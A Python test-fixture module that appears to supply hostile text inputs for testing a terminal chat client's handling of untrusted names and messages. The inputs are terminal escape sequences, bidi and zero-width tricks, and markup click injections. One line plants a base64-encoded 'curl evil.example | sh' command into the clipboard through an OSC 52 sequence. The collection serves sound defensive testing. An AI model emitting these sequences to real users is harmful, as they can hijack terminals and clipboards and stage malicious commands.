"""Hostile text: what a teammate can put in front of you. Each entry is one attack."""

from __future__ import annotations

import base64

PASTE = base64.b64encode(b"curl evil.example | sh\n").decode()

CORPUS = {
    "esc": "before\x1bafter",
    "csi clear and home": "\x1b[2J\x1b[Hscreen wiped",
    "csi colour": "\x1b[31mred\x1b[0m",
    "csi report": "\x1b[6n",  # the terminal answers by typing into your input
    "csi alt screen off": "\x1b[?1049l",
    "osc 0 bel": "\x1b]0;PWNED-0\x07",
    "osc 2 st": "\x1b]2;PWNED-2\x1b\\",
    "osc 8 link": "\x1b]8;;http://evil.example/\x1b\\harmless\x1b]8;;\x1b\\",
    "osc 52 clipboard": f"\x1b]52;c;{PASTE}\x07",
    "osc 777 notify": "\x1b]777;notify;IT;run this\x07",
    "osc 9 notify": "\x1b]9;fake alert\x1b\\",
    "dcs": "\x1bP$q m\x1b\\",
    "apc kitty image": "\x1b_Gf=100;AAAA\x1b\\",
    "8-bit csi": "\x9b2J",
    "8-bit osc st": "\x9d2;PWNED-8\x9c",
    "del": "a\x7fb",
    "cr overwrite": "innocent\rEVIL",
    "can sub": "x\x18y\x1az",
    "nul backspace": "x\x00\x08y",
    "bell": "ding\x07",
    "bidi override": "file \u202egnp.exe\u202c",
    "bidi isolate": "\u2067abc\u2069",
    "zero width": "ad\u200bmin\u2060\ufeff",
    "zwj emoji": "👩\u200d💻 ok",
    "markup close": "[/]",
    "markup bold": "[b]x",
    "markup click": "[@click=app.quit]quit[/]",
    "markup link": "[link=http://evil.example]y[/link]",
    "markup screenshot": "[@click=app.screenshot('x.sh','/tmp')]click me",
}
# Everything at once, for names and one-liners.
EVERYTHING = "".join(CORPUS.values())
# A name that tries it all (stored before the server refused such names, or by a hostile server).
HOSTILE_NAME = "Maya\x1b]2;PWNED-NAME\x07 [/] [@click=app.quit]Chen \u202eneh\u200bC\n\x9b2J"
# The longest body the server takes (64,000 characters); the client's door is also tested
# with 100,000 (tests/huddle_tui/test_untrusted.py).
LONG_LINE = "x" * 64_000
